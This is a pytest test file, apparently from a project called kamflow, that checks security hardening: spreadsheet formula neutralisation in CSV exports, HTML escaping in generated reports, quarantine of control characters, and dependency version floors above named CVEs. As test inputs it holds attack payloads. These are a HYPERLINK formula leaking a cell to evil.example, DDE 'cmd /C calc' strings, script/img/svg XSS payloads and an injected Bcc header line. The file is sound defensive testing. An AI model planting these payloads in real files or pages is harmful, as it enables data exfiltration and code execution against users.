"""Hardening found by a security review (issue 27): what a doctored snapshot, a careless
operator or another local user could do, each checked against the real thing."""

from __future__ import annotations

import contextlib
import csv
import io
import json
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import urlparse
from urllib.request import url2pathname

import pytest

from kamflow.cli import main
from kamflow.core.spreadsheet import FORMULA_STARTS, safe_cell, safe_frame
from kamflow.generate import make_snapshot, write_snapshot
from tests.conftest import AS_OF
from tests.test_bad_inputs import rows, write

PLAIN_NUMBER = ("-10.5", "+3", "-1e-3", ".5", "-0")


def formula_cells(text: str) -> list[str]:
    """The cells of a CSV text a spreadsheet would run as a formula."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell.startswith(FORMULA_STARTS) and cell not in PLAIN_NUMBER
            and safe_cell(cell) != cell]


# --------------------------------------------------------------------------- 1: CSV formulas

@pytest.mark.parametrize("value", [
    '=HYPERLINK("http://evil.example/?leak="&C2,"click me")', "+1+cmd|' /C calc'!A0",
    "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-", "=",
])
def test_a_formula_like_cell_is_prefixed_with_a_quote(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [*PLAIN_NUMBER, "中国银行", "a=b", "", "'=already"])
def test_plain_text_and_numbers_are_left_alone(value: str) -> None:
    assert safe_cell(value) == value


def test_safe_frame_neutralises_text_columns_only() -> None:
    import pandas as pd

    frame = pd.DataFrame({"name": ["=cmd()", "ok", None, "-5"], "n": [-1, 2, 3, -4],
                          "mixed": ["@x", 7, None, "+a"]})
    out = safe_frame(frame)
    assert out["name"].tolist()[:2] == ["'=cmd()", "ok"] and out["name"].tolist()[3] == "-5"
    assert pd.isna(out["name"].iloc[2])
    assert out["n"].tolist() == [-1, 2, 3, -4]
    assert out["mixed"].tolist()[:2] == ["'@x", 7] and out["mixed"].iloc[3] == "'+a"
    assert frame["name"].iloc[0] == "=cmd()"  # the frame itself is not changed


def test_report_csv_neutralises_a_manager_name_starting_with_a_formula() -> None:
    """`kamflow report --format csv`: a manager's name or address as a formula is text."""
    from kamflow.cli.report import _csv

    found = SimpleNamespace(
        periods=[{"period": "trailing 12 months", "accounts lost": 3, "revenue change": -1200.5}],
        breakdowns={"manager": [{"manager": "=1+1@operator.example",
                                 "manager name": '=HYPERLINK("http://evil.example","x")',
                                 "accounts lost": 1, "revenue change": -3.0}]})
    text = _csv(found)
    assert formula_cells(text) == []
    rows_ = list(csv.DictReader(io.StringIO(text)))
    assert rows_[1]["manager name"] == '\'=HYPERLINK("http://evil.example","x")'
    assert rows_[1]["group"] == "'=1+1@operator.example"
    assert rows_[0]["revenue change"] == "-1200.5"  # numbers stay numbers


# --------------------------------------------------------------------------- the doctored snapshot

SCRIPT = "<script>alert('kamflow')</script>"
IMG = "<img src=x onerror=alert(1)>"
SVG = '"><svg onload=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&C2,"click me")'
FAKE_LINES = "中国银行\r\nBcc: all@evil.example\r\n\r\nPlease pay to account 123"


@pytest.fixture(scope="module")
def doctored(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A 60-account snapshot with formula cells, script tags and control characters."""
    out = tmp_path_factory.mktemp("doctored")
    write_snapshot(make_snapshot(60, AS_OF, seed=3, bad_share=0.0), out)
    (out / "ground_truth.csv").unlink()
    path = out / "accounts.csv"
    table = rows(path)
    at = {name: i for i, name in enumerate(table[0])}
    table[2][at["industry"]] = FORMULA              # line 3: unknown industry, quarantined
    table[3][at["industry"]] = SCRIPT               # line 4
    table[4][at["industry"]] = IMG                  # line 5
    table[5][at["region"]] = SVG                    # line 6: an unknown region only warns
    table[6][at["name_zh"]] = FAKE_LINES            # line 7: control characters
    table[7][at["account_manager"]] = "王芳\n紧急\t@SUM(1+1)"  # line 8
    table[8][at["name_en"]] = "-2+3+cmd|' /C calc'!A0"  # line 9: passes, a formula though
    write(path, table)
    return out


@pytest.fixture(scope="module")
def validated(doctored: Path, tmp_path_factory: pytest.TempPathFactory) -> dict:
    """`kamflow validate --json` on the doctored snapshot, as a new user runs it."""
    home = tmp_path_factory.mktemp("home")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("KAMFLOW_HOME", str(home))
        patch.delenv("KAMFLOW_DATABASE_URL", raising=False)
        buffer = io.StringIO()
        with contextlib.redirect_stdout(buffer):
            code = main(["validate", "--source", str(doctored), "--as-of", AS_OF.isoformat(),
                         "--json"])
    assert code == 0
    return json.loads(buffer.getvalue())


def test_doctored_snapshot_quarantine_csv_has_no_formula_cell(validated: dict) -> None:
    with open(validated["quarantine_file"], encoding="utf-8", newline="") as handle:
        text = handle.read()
    values = {row["value"] for row in csv.DictReader(io.StringIO(text))}
    assert {"'" + FORMULA, SCRIPT, IMG} <= values  # kept, the formula as text
    assert formula_cells(text) == []


def test_doctored_snapshot_data_docs_carry_no_raw_markup(validated: dict) -> None:
    """No Data Docs page holds a tag from the data; the values are there, escaped."""
    index = Path(url2pathname(urlparse(validated["data_docs"]).path))
    pages = [p.read_text(encoding="utf-8") for p in index.parent.rglob("*.html")]
    assert len(pages) >= 3
    for raw in ("<script>alert", "<img src=x", "<svg onload"):
        assert not [p for p in pages if raw in p], raw
    assert any("&lt;script&gt;alert" in p for p in pages)
    assert any("&lt;svg onload" in p for p in pages)


def test_doctored_snapshot_control_characters_are_quarantined_with_reason(
        validated: dict) -> None:
    import pandas as pd

    records = pd.read_csv(validated["quarantine_file"], dtype=str, keep_default_na=False)
    mine = records.loc[records["expectation"] == "expect_column_values_to_not_match_regex"]
    assert sorted(zip(mine["row"].astype(int), mine["column"], strict=True)) == [
        (7, "name_zh"), (8, "account_manager")]
    assert mine["reason"].str.contains("control character").all()
    assert mine["reason"].str.contains("fake lines in the task emails").all()
    assert FAKE_LINES in set(mine["value"])


def test_the_offline_report_keeps_the_values_escaped(validated: dict) -> None:
    page = Path(validated["offline_report"]).read_text(encoding="utf-8")
    assert "<script>alert" not in page and "&lt;script&gt;alert" in page


# --------------------------------------------------------------------------- 10: dependency floors

SAFE_FLOORS = {  # the first release without the advisories issue 27 names
    "jinja2": "3.1.6",       # CVE-2024-22195, -34064, -56201, -56326, CVE-2025-27516
    "starlette": "0.49.1",   # CVE-2025-54121, CVE-2025-62727
    "h11": "0.16",           # CVE-2025-43859
    "setuptools": "78.1.1",  # CVE-2025-47273 (build-system)
}


def test_dependency_floors_exclude_releases_with_known_advisories() -> None:
    """pyproject.toml allows no release below the safe floors, and the installed environment
    satisfies every requirement pyproject.toml states (the pins prefect needs included)."""
    import importlib.metadata
    import tomllib

    from packaging.requirements import Requirement

    project = tomllib.loads((Path(__file__).resolve().parents[1] / "pyproject.toml")
                            .read_text(encoding="utf-8"))
    requirements = [Requirement(r) for r in project["project"]["dependencies"]
                    + project["build-system"]["requires"]]
    named = {r.name.lower(): r for r in requirements}
    for name, floor in SAFE_FLOORS.items():
        assert name in named, f"{name} has no floor in pyproject.toml"
        allowed = named[name].specifier
        assert not allowed.contains(_just_below(floor), prereleases=True), (name, str(allowed))
        assert allowed.contains(floor)
    for requirement in requirements:
        if requirement.name.lower() == "wheel":
            continue
        installed = importlib.metadata.version(requirement.name)
        assert requirement.specifier.contains(installed, prereleases=True), (
            requirement.name, installed, str(requirement.specifier))


def _just_below(version: str) -> str:
    """The release just before ``version`` (3.1.6 -> 3.1.5.999)."""
    parts = [int(p) for p in version.split(".")]
    if parts[-1] == 0:
        return ".".join(str(p) for p in parts[:-2] + [parts[-2] - 1, 999])
    return ".".join(str(p) for p in parts[:-1] + [parts[-1] - 1, 999])


# ------------------------------------------------------- 1: the other CSV files written for people

def test_report_effects_csv_neutralises_formula_text(kamflow_home: Path, capsys) -> None:
    """`kamflow report --effects --format csv`: an action or rule that reads as a formula (the
    rules' YAML is edited by hand) is text in the spreadsheet; the JSON keeps it exact."""
    import datetime as dt

    from sqlalchemy import text

    from kamflow.core.settings import load_settings
    from kamflow.worklist import TaskStore
    from tests.test_effects import _seed

    kamflow_home.mkdir(parents=True, exist_ok=True)
    url = load_settings().database_url
    _seed(url, dt.datetime(2026, 11, 30, 6, tzinfo=dt.UTC))
    with TaskStore(url) as store, store.session() as session:
        session.execute(text("UPDATE tasks SET action = :a"), {"a": FORMULA})
    assert main(["report", "--effects", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert formula_cells(out) == []
    found = list(csv.DictReader(io.StringIO(out)))
    assert found and {r["action"] for r in found} == {"'" + FORMULA}
    assert main(["report", "--effects", "--format", "json"]) == 0
    assert {r["action"] for r in json.loads(capsys.readouterr().out)["effects"]} == {FORMULA}


def test_simulate_decisions_csv_neutralises_formula_names(tmp_path: Path,
                                                         kamflow_home: Path) -> None:
    """`kamflow simulate --decisions FILE` on a snapshot whose account names are formulas:
    the file a person opens to review a rule change has none."""
    from kamflow.rules import RULES_DIR

    source = tmp_path / "snapshot"
    write_snapshot(make_snapshot(60, AS_OF, seed=3, bad_share=0.0), source)
    path = source / "accounts.csv"
    table = rows(path)
    at = table[0].index("name_zh")
    for i, row in enumerate(table[1:]):
        row[at] = f'=HYPERLINK("http://evil.example/{i}","客户{i}")'
    write(path, table)
    target = tmp_path / "decisions.csv"
    buffer = io.StringIO()
    with contextlib.redirect_stdout(buffer):
        code = main(["simulate", "--source", str(source), "--rules", str(RULES_DIR),
                     "--as-of", AS_OF.isoformat(), "--json", "--decisions", str(target)])
    assert code == 0
    written = target.read_text(encoding="utf-8")
    names = [r["account_name"] for r in csv.DictReader(io.StringIO(written))]
    assert names and all(n.startswith("'=HYPERLINK(") for n in names), names[:3]
    assert formula_cells(written) == []
